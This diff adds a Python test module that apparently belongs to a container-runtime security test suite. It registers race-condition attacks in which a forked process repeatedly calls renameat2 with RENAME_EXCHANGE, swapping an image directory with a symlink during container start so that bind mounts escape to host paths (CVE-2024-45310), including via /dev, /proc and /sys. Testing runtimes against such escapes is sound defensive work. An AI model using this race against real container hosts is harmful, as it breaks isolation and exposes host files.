@@ -1,0 +1,59 @@
+# SPDX-License-Identifier: MIT
+"""Another process changes the image while the container starts."""
+import ctypes
+import os
+import signal
+
+import host
+from attack_table import attack
+from box import IMAGE, SHARE
+
+RENAME_EXCHANGE = 2
+ROUNDS = 25
+
+
+def exchange(first, second, uid):
+    """As fast as it can, until it is ended. In a session of its own."""
+    pid = os.fork()
+    if pid == 0:
+        os.setsid()
+        os.nice(5)
+        if uid:
+            host.drop_to(uid)
+        one, other = os.fsencode(first), os.fsencode(second)
+        while True:
+            host.LIBC.syscall(316, -100, one, -100, other, RENAME_EXCHANGE)
+    return pid
+
+
+def race(link, target, name="data"):
+    def run(t):
+        os.makedirs(f"{IMAGE}/{name}", exist_ok=True)
+        os.makedirs(f"{IMAGE}/{name}/sub", exist_ok=True)
+        t.link(link, "other")
+        t.give(f"{IMAGE}/{name}")
+        t.bind(SHARE, target)
+        swapper = exchange(f"{IMAGE}/{name}", f"{IMAGE}/other", 0 if t.disk_root == 0 else t.disk_root)
+        begun = 0
+        for _ in range(ROUNDS):
+            t.attack("dotdot", "/data", "/other")
+            begun += t.began()
+            if t.host.found:
+                break
+        os.kill(swapper, signal.SIGKILL)
+        os.waitpid(swapper, 0)
+        if begun == 0 and not t.host.found:
+            raise RuntimeError(f"none of {ROUNDS} containers has started: {t.output[-300:]}")
+        t.output = "began\n" + t.output
+    return run
+
+
+for LINK, TARGET in ((".", "/data/"), ("..", "/data/"), ("../../mnt/host", "/data/made"), ("/proc/self/root/../mnt/host", "/data/made"),
+                     (".", "/data/sub/.."), ("../../mnt/host", "/data/sub/made/deep")):
+    attack("A", f"race-{LINK}-{TARGET}", f"a race: `data` of the image is now a directory, now a link to `{LINK}`, and a bind goes to `{TARGET}` (CVE-2024-45310)",
+           rounds=ROUNDS, modes=("terminal",), may_refuse=True)(race(LINK, TARGET))
+for NAME in ("dev", "proc", "sys"):
+    attack("A", f"race-{NAME}", f"the same of the image's `/{NAME}`", rounds=ROUNDS, modes=("terminal",), may_refuse=True)(
+        race("../../mnt/host", "/tmp", NAME))
+
+_ = ctypes
